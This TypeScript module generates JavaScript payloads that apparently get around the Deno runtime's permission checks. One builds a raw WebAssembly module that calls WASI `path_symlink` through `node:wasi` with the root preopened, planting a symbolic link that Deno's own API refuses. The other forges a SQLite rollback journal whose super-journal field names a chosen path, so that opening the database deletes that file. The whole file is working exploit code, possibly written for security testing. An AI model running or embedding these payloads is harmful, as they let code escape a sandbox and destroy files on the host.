/** JavaScript that makes a symbolic link through `node:wasi`, which Deno's own API refuses. */
export function plantLink(target: string, name: string): string {
  return `await (${wasiLink})(${JSON.stringify(target)}, ${JSON.stringify(name)});`;
}

/** JavaScript that has SQLite delete a file: a rollback journal names it as its super-journal. */
export function deleteBySuperJournal(path: string): string {
  return `await (${superJournal})(${JSON.stringify(path)});`;
}

// A module with one import (`path_symlink`), one memory that holds both paths, and `_start`, which calls the import once.
const wasiLink = `async (target, name) => {
  const { WASI } = await import("node:wasi");
  const text = (value) => { const bytes = new TextEncoder().encode(value); return [...leb(bytes.length), ...bytes]; };
  const leb = (n) => n < 128 ? [n] : [(n & 127) | 128, ...leb(n >> 7)];
  const signed = (n) => n < 64 ? [n] : [(n & 127) | 128, ...signedRest(n >> 7)];
  const signedRest = (n) => n < 64 ? [n] : [(n & 127) | 128, ...signedRest(n >> 7)];
  const section = (id, body) => [id, ...leb(body.length), ...body];
  const length = (value) => new TextEncoder().encode(value).length;
  const constant = (n) => [0x41, ...signed(n)];
  const call = [...constant(0), ...constant(length(target)), ...constant(3), ...constant(2048), ...constant(length(name)), 0x10, 0, 0x1a, 0x0b];
  const data = (at, value) => [0, ...constant(at), 0x0b, ...text(value)];
  const bytes = new Uint8Array([
    0, 0x61, 0x73, 0x6d, 1, 0, 0, 0,
    ...section(1, [2, 0x60, 5, 0x7f, 0x7f, 0x7f, 0x7f, 0x7f, 1, 0x7f, 0x60, 0, 0]),
    ...section(2, [1, ...text("wasi_snapshot_preview1"), ...text("path_symlink"), 0, 0]),
    ...section(3, [1, 1]),
    ...section(5, [1, 0, 1]),
    ...section(7, [2, ...text("memory"), 2, 0, ...text("_start"), 0, 1]),
    ...section(10, [1, ...leb(call.length + 1), 0, ...call]),
    ...section(11, [2, ...data(0, target), ...data(2048, name)]),
  ]);
  const wasi = new WASI({ version: "preview1", preopens: { "/": "." } });
  const { instance } = await WebAssembly.instantiate(bytes, { wasi_snapshot_preview1: wasi.wasiImport });
  wasi.start(instance);
}`;

const superJournal = `async (path) => {
  const { DatabaseSync } = await import("node:sqlite");
  const first = new DatabaseSync("forged.db");
  first.exec("CREATE TABLE t (a)");
  first.close();
  const { size } = Deno.statSync("forged.db");
  const name = new TextEncoder().encode(path);
  const journal = new Uint8Array(512 + name.length + 16);
  const view = new DataView(journal.buffer);
  const magic = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
  journal.set(magic);
  view.setUint32(16, size / 4096);
  view.setUint32(20, 512);
  view.setUint32(24, 4096);
  journal.set(name, 512);
  view.setUint32(512 + name.length, name.length);
  view.setUint32(512 + name.length + 4, name.reduce((sum, byte) => sum + byte, 0));
  journal.set(magic, 512 + name.length + 8);
  Deno.writeFileSync("forged.db-journal", journal);
  const second = new DatabaseSync("forged.db");
  second.exec("SELECT * FROM t");
  second.close();
}`;
